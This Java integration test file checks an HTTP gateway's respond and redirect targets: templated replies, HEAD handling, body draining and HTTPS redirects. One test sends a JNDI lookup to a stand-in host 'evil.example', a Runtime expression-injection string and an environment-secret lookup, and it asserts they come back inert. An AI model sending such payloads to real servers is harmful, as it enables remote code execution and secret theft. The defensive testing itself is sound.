package dev.gatehouse.it.target;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.api.config.JsonText;
import dev.gatehouse.engine.config.RedirectConfig;
import dev.gatehouse.engine.config.RespondConfig;
import dev.gatehouse.engine.target.redirect.RedirectTarget;
import dev.gatehouse.engine.target.respond.RespondTarget;
import dev.gatehouse.testkit.LeavesNothingBehind;
import dev.gatehouse.testkit.RawAnswer;
import dev.gatehouse.testkit.RawClient;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Targets that answer by themselves, over the wire.
@LeavesNothingBehind
class AnsweringTest {
    private static final RespondConfig HELLO =
            new RespondConfig(200, "Hello {query.name}\n", null, null, Map.of("X-Host", "{request.host}"));

    @Test
    void an_answer_is_filled_with_facts_of_the_request() {
        try (var gateway = OneTarget.answering(RespondTarget.of(HELLO, null))) {
            RawAnswer answer =
                    RawClient.ask(gateway.port(), "GET /x?name=Z%C3%B6e HTTP/1.1\r\nHost: shop.example:81\r\n\r\n");

            assertThat(answer.statusLine()).isEqualTo("HTTP/1.1 200 OK");
            assertThat(answer.header("Content-Type")).isEqualTo("text/plain; charset=utf-8");
            assertThat(answer.header("X-Host")).isEqualTo("shop.example");
            assertThat(new String(answer.body(), java.nio.charset.StandardCharsets.UTF_8))
                    .isEqualTo("Hello Zöe\n");
            assertThat(answer.headers("Date")).hasSize(1);
            assertThat(answer.header("Gatehouse-Error")).isNull();
        }
    }

    @Test
    void HEAD_gets_the_head_that_GET_would_get() {
        try (var gateway = OneTarget.answering(RespondTarget.of(HELLO, null));
                var client = RawClient.connect(gateway.port())) {
            client.send("HEAD /?name=Ann HTTP/1.1\r\nHost: a\r\n\r\n");
            assertThat(client.readAnswerToHead().header("Content-Length")).isEqualTo("10");
            client.send("GET /?name=Ann HTTP/1.1\r\nHost: a\r\n\r\n");
            assertThat(client.readAnswer().text()).isEqualTo("Hello Ann\n");
        }
    }

    @ParameterizedTest
    @ValueSource(ints = {204, 304})
    void an_answer_that_has_no_body_says_no_length(int status) {
        try (var gateway = OneTarget.answering(RespondTarget.of(RespondConfig.of(status), null));
                var client = RawClient.connect(gateway.port())) {
            client.send("GET / HTTP/1.1\r\nHost: a\r\n\r\nGET / HTTP/1.1\r\nHost: a\r\n\r\n");
            assertThat(client.readAnswer().header("Content-Length")).isNull();
            assertThat(client.readAnswer().status()).isEqualTo(status);
        }
    }

    @Test
    void a_small_body_is_read_past_and_the_connection_lives_on() {
        try (var gateway = OneTarget.answering(RespondTarget.of(HELLO, null));
                var client = RawClient.connect(gateway.port())) {
            client.send("POST /?name=1 HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\n12345");
            assertThat(client.readAnswer().text()).isEqualTo("Hello 1\n");
            client.send("POST /?name=2 HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\n");
            assertThat(client.readAnswer().text()).isEqualTo("Hello 2\n");
            client.send("12345GET /?name=3 HTTP/1.1\r\nHost: a\r\n\r\n");
            assertThat(client.readAnswer().text()).isEqualTo("Hello 3\n");
        }
    }

    @Test
    void a_big_body_does_not_cost_the_client_its_answer() {
        try (var gateway = OneTarget.answering(RespondTarget.of(RespondConfig.of(403), null));
                var client = RawClient.connect(gateway.port())) {
            client.send("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 10000000\r\n\r\n");
            client.sendBigInBackground(10_000_000);
            RawAnswer answer = client.readAnswer();
            assertThat(answer.status()).isEqualTo(403);
            assertThat(answer.header("Connection")).isEqualTo("close");
        }
    }

    @Test
    void what_a_client_sends_is_not_looked_at_for_code() {
        RespondConfig config = new RespondConfig(
                200, null, new JsonText("{\"echo\":\"{header.x-a}\",\"path\":\"{request.path}\"}"), null, Map.of());
        try (var gateway = OneTarget.answering(RespondTarget.of(config, null))) {
            RawAnswer answer = RawClient.ask(
                    gateway.port(),
                    "GET /${jndi:ldap://evil.example/a} HTTP/1.1\r\nHost: a\r\n"
                            + "X-A: #{T(java.lang.Runtime).getRuntime()} ${env:SECRET} {client.ip} \"\r\n\r\n");

            assertThat(answer.text())
                    .isEqualTo("{\"echo\":\"#{T(java.lang.Runtime).getRuntime()} ${env:SECRET} {client.ip} \\\"\","
                            + "\"path\":\"/${jndi:ldap:/evil.example/a}\"}");
        }
    }

    @Test
    void a_redirect_keeps_host_path_and_query() {
        try (var gateway = OneTarget.answering(RedirectTarget.of(RedirectConfig.toHttps(8443)))) {
            RawAnswer answer = RawClient.ask(
                    gateway.port(), "POST //a/./b%20c?d=%0D%0A&e HTTP/1.1\r\nHost: shop.example:80\r\n\r\n");

            assertThat(answer.statusLine()).isEqualTo("HTTP/1.1 308 Permanent Redirect");
            assertThat(answer.header("Location")).isEqualTo("https://shop.example:8443/a/b%20c?d=%0D%0A&e");
            assertThat(answer.header("Content-Length")).isEqualTo("0");
        }
    }

    @Test
    void a_redirect_to_a_host_nobody_named_is_400() {
        try (var gateway = OneTarget.answering(RedirectTarget.of(RedirectConfig.toHttps(443)))) {
            RawAnswer answer = RawClient.ask(gateway.port(), "GET / HTTP/1.0\r\n\r\n");

            assertThat(answer.status()).isEqualTo(400);
            assertThat(answer.header("Gatehouse-Error")).isEqualTo("BAD_REQUEST");
        }
    }
}
